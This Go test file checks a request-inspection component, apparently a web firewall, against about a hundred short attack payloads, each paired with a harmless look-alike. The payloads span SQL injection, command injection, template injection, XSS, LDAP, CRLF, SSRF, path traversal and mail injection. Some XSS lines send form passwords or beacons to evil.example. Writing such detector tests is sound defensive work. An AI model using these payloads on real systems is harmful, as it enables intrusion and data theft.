package inspect

import (
	"testing"

	"github.com/portcullis/portcullis/ingest"
)

// grammarPairs are attacks by grammar, each with an honest text that looks like it.
var grammarPairs = []struct{ class, attack, honest string }{
	{"sqli", "9'+and+4+3=(5+2)--", "rock+and+roll+4+kids"},
	{"sqli", "x'+like+'7", "more+like+this"},
	{"sqli", "(7)*price and 9=9", "(7) price and 9 others"},
	{"sqli", "(kim)*2 and 6=6", "(kim) and the 6 others"},
	{"sqli", "7 or 3=session_user", "7 or 3 users"},
	{"sqli", "foo or b=b", "foo or b=c"},
	{"sqli", "2 or owner = owner", "when owner or tenant = owner of the flat"},
	{"sqli", "select sleep(-4*-2)", "select sleep mode -4"},
	{"sqli", "select(sleep(7));", "select(sleep) event"},
	{"sqli", "call regexp_substring(repeat(right(char(65),0),700000000),null) and 1", "call regexp_substring for the text"},
	{"cmdi", "pi``ng -c 3 192.0.2.1", "use `` for an empty string, ping us"},
	{"cmdi", ";wh$()oami", "call $() or $(el) ; who knows"},
	{"cmdi", ";ca<()t /etc/hosts", "a<() is no type"},
	{"ssti", "{% if 1 %}ab{% endif %}", "{% if user %}"},
	{"ssti", "<%= if true %>ab<% end %>", "<%= title %>"},
	{"code", "(pass.(th).ru)(id)", "(v1.2)(beta)"},
	{"code", "($f)('id')", "($5)(each)"},
	{"code", `{"then":"$2:constructor:constructor"}`, "class:constructor:constructor arguments"},
	{"code", "hello @{[ !!system 'id' ]}", "mail @{team}"},
	{"xss", "%253ca href=//%2565%2578%2561%256d%2570%256c%2565%253e", "a < b, 100%25 sure"},
	{"xss", "w:exp/**/res/*x*//*y*/sion(f(9))", "a regular expression (in /* a comment */)"},
	{"xss", `"b:\0075rl(\00006aav\000061script:x)"`, `c:\0075 url (javascript: see \docs)`},
	{"xss", "'},document.location=window.name+'//'", "location=window seat + aisle"},
	{"xss", "outerHTML=document.title|x", "outerHTML = the element's markup"},
	{"xss", `<form action=//evil.example><input name=pw>`, `<form action="/search"><input name=q>`},
	{"xss", `<button formaction=//evil.example>x`, `<button formaction="/save">save</button>`},
	{"xss", `<img src='//evil.example/log?`, `<img src='//cdn.example.org/a.png'> and more?`},
	{"xss", `<p oncontentvisibilityautostatechange="f(1)">`, "<p>on the contents page: visibility</p>"},
	{"ssti", "{{'a'.toUpperCase()}}", "{{title}} 'a'.length"},
	{"ssti", "{% include '/etc/x' %}", "{% include 'header.html' %}"},
	{"ssti", "{% if 7==7 %}x{% endif %}", "{% if n==7 %}x{% endif %}"},
	{"nosqli", "';it=new Date();do{pt=new Date();}while(pt-it<5000);", "5; it is new; it = a book"},
	{"nosqli", `{"$lookup":{"from":"users","as":"x","pipeline":[]}}`, `{"lookup":{"from":"users"}}`},
	{"ldap", "*(|(mail=*))", "*(see note) | (mail=yes)"},
	{"ldap", "| (objectClass=*)", "| (a = b) |"},
	{"crlf", "anySet-Cookie: tamper=1", "the header Set-Cookie: tamper=1 is sent"},
	{"crlf", "%c4%8d%c4%8aSet-Cookie: a=b", "%c4%8a is a letter of Maltese; Set-Cookie: none"},
	{"crlf", "x HTTP/1.1%0d%0aHost: evil.example%0d%0a%0d%0aGET /", "speaks HTTP/1.1%0d%0aand HTTP/2"},
	{"prototype-pollution", "x.__pro__proto__to__[y]", "x.proto[y]; to"},
	{"ssrf", "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://[2001:db8::1]/"},
	{"ssrf", "http://425.510.425.510/", "http://192.0.2.25/"},
	{"ssrf", "//127.0.0.1/", "//cdn.example.org/x.js"},
	{"ssrf", "http:///127.0.0.1/", "http:///example.org"},
	{"traversal", "../.env", "../README.md"},
	{"traversal", "../config.php", "../images/logo.png"},
	{"traversal", "etc%c0%afpasswd", "%c0%af caf%c3%a9"},
	{"traversal", "./a/././%5c/./b", "./a/./b"},
	{"traversal", "..2fvar..2fx", "a3..2f"},
	{"traversal", "/..%25u2215", "/.../ 50%25"},
	{"sqli", "712 and 4/*", "712 and 4 /* more */ items"},
	{"sqli", "6 or 3--", "6 or 3 -- whatever is left"},
	{"sqli", ".5or-utc_date--", "0.5 or less--"},
	{"sqli", "8#k%0aAND#m%0a52=52", "8 # a note%0aand # another%0aone"},
	{"sqli", "3 and 4 sounds like 4", "3 and 4 sounds like a lot"},
	{"sqli", "kim'|pass--", "the boys' | girls --"},
	{"sqli", "kim' like 0 -- -a", "O'Brien's like 0 -- or so"},
	{"sqli", "' isnull --", "the dogs' is --"},
	{"sqli", "w' rlike 'w", "w' like 'w' and rlike"},
	{"sqli", "2'or!'0", "2'or 3' long"},
	{"sqli", "kim' or '", "kim 'or' lee"},
	{"sqli", "(select version())", "(select one) version()"},
	{"sqli", "select 'x' from y where", "select an 'x' from the list"},
	{"sqli", "select banner from v$version where rownum=1", "select a banner from the version list"},
	{"sqli", "2 union all values(1,2)", "2 union values (trust)"},
	{"sqli", "' union table users-- -", "the 'union table users' guide"},
	{"sqli", "hex(substr(version(),1,2))", "hex(substr(name,1,2))"},
	{"sqli", "case when 's' then 3 end", "case when it rains"},
	{"sqli", "id=4 and 7=7", "id=4 and n=7"},
	{"sqli", "; or '6'='6'", "; or 'six'"},
	{"sqli", "'not regexp'", "'not really'"},
	{"sqli", "5; desc users; --", "5; desc of the house --"},
	{"sqli", "5;grant all privileges on *.* to x@y", "5; grant all of them a wish"},
	{"sqli", `'; attach database '/x/y.php' as z; --`, "attach a database file"},
	{"sqli", "77' ) ) )", "size 7' (2)"},
	{"sqli", `4""(.'.(,(.`, `4 "big" (.5, .7)`},
	{"sqli", `%5cNunion select 3,4`, `%5cnunion street`},
	{"sqli", "9) into outfile x--", "9) into outfiles"},
	{"sqli", "ab/*x*/select/*x*/4,5,6", "src/**/select/**/x"},
	{"cmdi", "x & ifconfig", "x & y"},
	{"ssti", `${"k"+"m"}`, `${"k"+name}`},
	{"ssti", `${"kk"?length}`, `${kk?length}`},
	{"ssti", "${3*4?string}", "${3?string}"},
	{"ssti", "{% print 3*4 %}", "{% print total %}"},
	{"ssti", "{{!3*4}}", "{{!3}}"},
	{"ssti", "<%= ENV %>", "<%= name %>"},
	{"ssti", "#{ENV['K']}", "#{name}"},
	{"mail", "x%0d%0aVRFY root", "dear all%0d%0averify root please"},
	{"mail", "x%0d%0aEHLO evil.example", "x%0d%0ahello evil example"},
	{"mail", "%0d%0aA007 UID FETCH 1 BODY[]", "%0d%0aQ1 status and copy"},
	{"cmdi", `+dir c:%5c+|`, "dir | list |"},
	{"cmdi", "/a.html|id|", "/a.html|name|"},
	{"xss", `<a href="http://example:evil.example">x</a>`, `<a href="http://example.org:8080/">x</a>`},
	{"sqli", "select/*x*/y/**/from/**/z", "select /* some */ y from z"},
	{"sqli", "77 or /*+x */ true", "77 or /* so */ truly"},
	{"sqli", "a' 'b' and (pi()=pi())--", "a 'b' and (pie) -- so"},
	{"sqli", "(select top 1 table_name from information_schema.tables)", "(select top 1 of the tables)"},
	{"sqli", "4=4 and-+-~((4))", "4=4 and -4 or so"},
	{"sqli", "select char(0x66)", "select char(name)"},
	{"sqli", "kk'^!'kk", "the kids'-'pets"},
	{"code", "touch/*x*/('f')", "touch /*me*/ (not)"},
	{"code", "get_defined_vars()[0]", "get_defined() [1999]"},
	{"mail", "%0ASubject: hello", "the subject: hello"},
}

// TestGrammarPairs holds signs of grammar against honest texts that look like them.
func TestGrammarPairs(t *testing.T) {
	in := New(Config{})
	for _, c := range grammarPairs {
		v := in.Inspect(&ingest.Event{Target: "/x?v=" + queryEscape(c.attack)})
		if v.Score < in.Threshold() || v.Class != c.class {
			t.Errorf("%q scores %d as %q (%s): want %s", c.attack, v.Score, v.Class, v.Why, c.class)
		}
		if v := in.Inspect(&ingest.Event{Target: "/x?v=" + queryEscape(c.honest)}); v.Score >= in.Threshold() {
			t.Errorf("the honest %q scores %d as %s: %s", c.honest, v.Score, v.Class, v.Why)
		}
	}
}
